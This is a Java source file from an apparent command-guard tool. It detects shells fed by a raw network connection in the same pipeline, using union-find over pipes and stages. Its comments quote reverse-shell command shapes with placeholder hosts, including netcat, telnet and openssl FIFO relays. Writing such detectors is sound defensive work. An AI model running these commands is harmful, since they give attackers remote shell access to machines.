package dev.cmdguard.rules.execution;

import dev.cmdguard.rules.RuleContext;
import dev.cmdguard.unwrap.Invocation;
import dev.cmdguard.unwrap.Stdin;
import java.util.ArrayList;
import java.util.List;

/**
 * Groups the invocations of a command into pipelines (joined by pipes, a stage with what runs
 * inside it) to find a shell and a raw network connection in the same pipeline: {@code nc h p |
 * sh}, {@code cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f}, {@code telnet h p | sh | telnet h q}.
 * Grouping whole pipelines rather than following one pipe keeps the relay shapes, where the
 * connection sits after the shell and feeds it back through a FIFO.
 */
final class Pipelines {
  private Pipelines() {}

  /** Indexes of shells reading their script from a raw connection in the same pipeline. */
  static List<Integer> shellsJoinedToSockets(RuleContext context) {
    List<Invocation> all = context.invocations();
    boolean anySocket = false;
    for (Invocation inv : all) {
      anySocket |= Tools.socket(inv);
    }
    if (!anySocket) {
      return List.of();
    }
    int[] group = groups(context);
    List<Integer> out = new ArrayList<>();
    for (int i = 0; i < all.size(); i++) {
      Invocation shell = all.get(i);
      if (!shell.has(Invocation.Trait.READS_SCRIPT_FROM_STDIN)) {
        continue;
      }
      for (int j = 0; j < all.size(); j++) {
        if (group[j] == group[i] && Tools.socket(all.get(j)) && fedBy(shell, all.get(j))) {
          out.add(i);
          break;
        }
      }
    }
    return out;
  }

  /**
   * True when the shell's script can come from the connection: through the pipeline, or through a
   * FIFO the connection writes ({@code sh -i < /tmp/s 2>&1 | openssl s_client … > /tmp/s}).
   */
  private static boolean fedBy(Invocation shell, Invocation socket) {
    // instanceof, not a pattern switch: see docs/agents.md, "Start-up"
    Stdin stdin = shell.stdin();
    if (stdin instanceof Stdin.Pipe) {
      return true;
    } else if (stdin instanceof Stdin.File f) {
      return !f.path().dynamic()
          && socket.redirects().stream()
              .anyMatch(r -> r.writesFile() && r.target().value().equals(f.path().value()));
    } else if (stdin instanceof Stdin.Heredoc
        || stdin instanceof Stdin.HereString
        || stdin instanceof Stdin.Inherited) {
      return false;
    }
    throw new IllegalStateException("unexpected stdin: " + stdin);
  }

  /** Union-find over pipes and stages: {@code group[i]} names the pipeline of invocation i. */
  private static int[] groups(RuleContext context) {
    int n = context.invocations().size();
    int[] parent = new int[n];
    for (int i = 0; i < n; i++) {
      parent[i] = i;
    }
    for (int i = 0; i < n; i++) {
      if (context.invocation(i).stdin() instanceof Stdin.Pipe p && p.producer() < n) {
        union(parent, i, p.producer());
      }
      int size = context.stage(i).size();
      for (int k = 1; k < size; k++) {
        union(parent, i, i + k);
      }
    }
    int[] group = new int[n];
    for (int i = 0; i < n; i++) {
      group[i] = find(parent, i);
    }
    return group;
  }

  private static int find(int[] parent, int i) {
    while (parent[i] != i) {
      parent[i] = parent[parent[i]];
      i = parent[i];
    }
    return i;
  }

  private static void union(int[] parent, int a, int b) {
    parent[find(parent, a)] = find(parent, b);
  }
}
